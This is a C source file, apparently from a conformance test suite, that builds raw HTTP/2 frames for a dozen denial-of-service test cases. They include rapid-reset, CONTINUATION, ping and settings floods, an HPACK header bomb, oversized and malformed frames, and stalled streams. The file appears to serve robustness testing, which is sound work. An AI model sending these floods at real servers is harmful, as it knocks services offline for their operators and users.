/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Makes HTTP/2 frames by hand, because no library sends such frames.
 */
#include "kubelet/conformance/attacks.h"

#include "proto/methods.h"

#define FLOOD           20000
#define HEADER_FLOOD    (16U << 20)
#define FRAME_SIZE_MAX  16384
#define STALLED_STREAMS 64

void attack_garbage(struct bytes *bytes)
{
	for (unsigned i = 0; i < 200; i++)
		bytes_add(bytes, "GET / HTTP/1.1\r\nHost: \x00\xff\r\n\r\n", 27);
}

void attack_half_a_preface(struct bytes *bytes)
{
	bytes_add(bytes, "PRI * HTTP/2.0\r\n", 16);
}

void attack_oversized_frame(struct bytes *bytes)
{
	static const uint8_t nothing[65536];

	bytes_add_preface(bytes, ATTACK_WINDOW);
	bytes_add_call(bytes, 1, METHOD_ALLOCATE, NULL);
	bytes_add_head(bytes, 0xffffff, FRAME_DATA, 0, 1);
	bytes_add(bytes, nothing, sizeof(nothing));
}

void attack_broken_headers(struct bytes *bytes)
{
	uint8_t junk[1024];

	for (size_t i = 0; i < sizeof(junk); i++)
		junk[i] = (uint8_t)(i * 167 + 13);
	bytes_add_preface(bytes, ATTACK_WINDOW);
	bytes_add_frame(bytes, FRAME_HEADERS, FLAG_END_HEADERS, 1, junk, sizeof(junk));
}

/* Puts one entry of 4000 bytes into the table, then sends 64 KiB of references to it. */
void attack_header_bomb(struct bytes *bytes)
{
	_cleanup_bytes_ struct bytes fields = {};
	/* A literal field that is put into the table, with the value's size as an integer of
	 * HPACK: 127 + 0x21 + (0x1e << 7). */
	static const uint8_t entry[] = { 0x40, 1, 'x', 0x7f, 0xa1, 0x1e };
	uint8_t references[FRAME_SIZE_MAX];
	char value[4000];

	memset(value, 'a', sizeof(value));
	memset(references, 0xbe, sizeof(references));
	bytes_add(&fields, entry, sizeof(entry));
	bytes_add(&fields, value, sizeof(value));
	bytes_add_preface(bytes, ATTACK_WINDOW);
	bytes_add_frame(bytes, FRAME_HEADERS, 0, 1, fields.data, fields.size);
	for (unsigned i = 0; i < 4; i++)
		bytes_add_frame(bytes, FRAME_CONTINUATION, i == 3 ? FLAG_END_HEADERS : 0, 1,
			references, sizeof(references));
}

void attack_continuation_flood(struct bytes *bytes)
{
	/* A literal field that is not put into the table; its value fills the frame: the size as an
	 * integer of HPACK is 127 + 0x7b + (0x7e << 7). */
	static const uint8_t head[] = { 0x00, 1, 'x', 0x7f, 0xfb, 0x7e };
	uint8_t field[FRAME_SIZE_MAX];

	memset(field, 'a', sizeof(field));
	memcpy(field, head, sizeof(head));
	bytes_add_preface(bytes, ATTACK_WINDOW);
	bytes_add_frame(bytes, FRAME_HEADERS, 0, 1, "", 0);
	for (unsigned i = 0; i < HEADER_FLOOD / FRAME_SIZE_MAX; i++)
		bytes_add_frame(bytes, FRAME_CONTINUATION, 0, 1, field, sizeof(field));
}

void attack_reset_flood(struct bytes *bytes)
{
	static const uint8_t cancel[4] = { 0, 0, 0, 8 };

	bytes_add_preface(bytes, ATTACK_WINDOW);
	for (uint32_t i = 0; i < FLOOD / 4; i++) {
		bytes_add_call(bytes, i * 2 + 1, METHOD_ALLOCATE, NULL);
		bytes_add_frame(bytes, FRAME_RST_STREAM, 0, i * 2 + 1, cancel, sizeof(cancel));
	}
}

void attack_ping_flood(struct bytes *bytes)
{
	static const uint8_t data[8];

	bytes_add_preface(bytes, ATTACK_WINDOW);
	for (unsigned i = 0; i < FLOOD; i++)
		bytes_add_frame(bytes, FRAME_PING, 0, 0, data, sizeof(data));
}

void attack_settings_flood(struct bytes *bytes)
{
	bytes_add_preface(bytes, ATTACK_WINDOW);
	for (unsigned i = 0; i < FLOOD; i++)
		bytes_add_frame(bytes, FRAME_SETTINGS, 0, 0, "", 0);
}

void attack_closed_windows(struct bytes *bytes)
{
	bytes_add_preface(bytes, 0);
	for (uint32_t i = 0; i < STALLED_STREAMS; i++) {
		bytes_add_call(bytes, i * 2 + 1, METHOD_LIST_AND_WATCH, NULL);
		bytes_add_message(bytes, i * 2 + 1, 0, 0, "", 0);
	}
}

void attack_slow_reader(struct bytes *bytes)
{
	bytes_add_preface(bytes, ATTACK_WINDOW);
	for (uint32_t i = 0; i < STALLED_STREAMS; i++) {
		bytes_add_call(bytes, i * 2 + 1, METHOD_LIST_AND_WATCH, NULL);
		bytes_add_message(bytes, i * 2 + 1, 0, 0, "", 0);
	}
}

void attack_huge_message(struct bytes *bytes)
{
	static const uint8_t part[FRAME_SIZE_MAX - 5];

	bytes_add_preface(bytes, ATTACK_WINDOW);
	bytes_add_call(bytes, 1, METHOD_ALLOCATE, NULL);
	bytes_add_message(bytes, 1, 0, 1U << 30, part, sizeof(part));
}
